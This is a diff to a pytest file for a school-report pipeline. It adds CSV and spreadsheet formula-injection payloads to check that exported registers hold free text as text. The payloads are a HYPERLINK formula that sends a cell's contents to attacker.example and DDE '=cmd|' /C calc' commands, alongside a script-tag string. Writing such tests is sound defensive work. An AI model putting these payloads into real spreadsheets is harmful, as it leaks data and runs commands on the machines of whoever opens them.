@@ -20,6 +20,12 @@ from dagster_project.lib.site_builder import published_reports
 
 pytestmark = pytest.mark.slow
 HOSTILE = "<script>alert(1)</script> & Sons | Primary"
+FORMULA_PAYLOADS = {
+    "support_offered": '=HYPERLINK("http://attacker.example/?d="&B2, "Support plan")',
+    "progress_and_actions": "=cmd|' /C calc'!A0",
+    "next_steps": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "lead_professional": "+1+1",
+}
 
 
 def _text(path: Path) -> str:
@@ -344,6 +350,9 @@ def hostile_warehouse(warehouse, tmp_path_factory) -> Path:
             "select count(*) from information_schema.tables where table_name = 'fct_causing_concern_register'"
         ).fetchone()[0]:
             connection.execute("update fct_causing_concern_register set key_concerns = ?", [HOSTILE])
+            # free text from the LA's register return that a spreadsheet would run as a formula (OWASP)
+            for column, payload in FORMULA_PAYLOADS.items():
+                connection.execute(f"update fct_causing_concern_register set {column} = ?", [payload])
     return copy
 
 
@@ -367,6 +376,58 @@ def test_hostile_school_names_render_as_text_in_every_report(hostile_warehouse, 
     if urn is not None:
         built = booklets.build_booklets(hostile_warehouse, tmp_path / "r", engine="pandoc", urns=[urn])
         _assert_printed_as_text(built[0].html)
+
+
+def test_register_and_support_category_spreadsheets_write_formula_text_as_text(hostile_warehouse, tmp_path):
+    """Every xlsx/csv the project writes holds the returns' free text as text: opening the restricted register
+    must never run `=HYPERLINK(...)` or `=cmd|...` (lib/spreadsheets.py)."""
+    from openpyxl import load_workbook
+
+    from dagster_project.lib.restricted_exports import export_support_categories
+    from tests.unit.test_spreadsheets import formulas_in
+
+    register = causing_concern_register.build_register(hostile_warehouse, tmp_path / "r", engine="pandoc")
+    assert register.source == causing_concern_register.REGISTER_TABLE
+    assert formulas_in(register.xlsx) == []
+    sheet = load_workbook(register.xlsx).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    for payload in FORMULA_PAYLOADS.values():
+        assert cells[payload].data_type == "s" and cells[payload].quotePrefix, payload
+    months = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert any(isinstance(value, int) for value in months), "months on register are numbers"
+    csv_path, xlsx_path = export_support_categories(hostile_warehouse, tmp_path / "r")
+    assert formulas_in(xlsx_path) == []
+    assert "not_secure" not in csv_path.read_text(encoding="utf-8-sig")  # capacity in words
+
+
+def test_committee_downloads_hold_numbers_an_analyst_can_sort_and_sum(published, warehouse):
+    from openpyxl import load_workbook
+
+    folder = _one(published / "downloads" / "committee_report", "*")
+    ((year, value, difference),) = _query(
+        warehouse,
+        "select academic_year, la_value, la_minus_national from rpt_committee__la_headlines "
+        "where measure_code = 'ks2_rwm_expected_pct' order by academic_year desc limit 1",
+    )
+    sheet = load_workbook(folder / f"headlines-ks2-{year}.xlsx").active
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value.startswith("Reading, writing and maths: % meeting"))
+    la_cell, difference_cell = row[1], row[header.index("Difference from national")]
+    assert la_cell.value == pytest.approx(round(value) / 100) and la_cell.number_format == "0%"
+    assert difference_cell.value == round(difference) and difference_cell.data_type == "n"
+    categories = load_workbook(folder / "support-categories.xlsx").active
+    schools = [row[1] for row in categories.iter_rows(min_row=2, values_only=True)]
+    ((categorised,),) = _query(warehouse, "select sum(school_count) from rpt_committee__category_distribution")
+    assert sum(schools) == categorised
+    as_text = [
+        (workbook.name, cell.coordinate, cell.value)
+        for workbook in folder.glob("*.xlsx")
+        for column in load_workbook(workbook).active.iter_cols()
+        if column[0].value != "URN"  # an identifier, kept as written
+        for cell in column[1:]
+        if isinstance(cell.value, str) and re.fullmatch(r"[+\u2212-]?[\d,.]+%?", cell.value)
+    ]
+    assert as_text == [], "numbers written as text"
 
 
 def test_booklet_file_names_transliterate_accented_school_names():
